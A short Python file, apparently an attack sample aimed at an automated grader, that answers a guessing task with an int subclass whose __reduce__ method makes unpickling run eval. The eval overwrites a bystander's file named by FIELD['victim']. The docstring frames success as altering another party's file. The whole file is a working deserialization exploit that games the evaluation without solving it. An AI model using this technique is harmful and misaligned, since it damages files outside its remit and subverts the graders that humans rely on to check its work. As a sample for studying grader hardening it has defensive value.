"""Answers with an `int` whose pickle runs a command, in case only built-in types are trusted.

Success: a file of a bystander's has changed.
Succeeds: in a grader of one process
"""


class Number(int):
    def __reduce__(self):
        return eval, (f"open({FIELD['victim']!r}, 'w').write('changed by the grader')",)


def guess(n, hint):
    return Number(0)
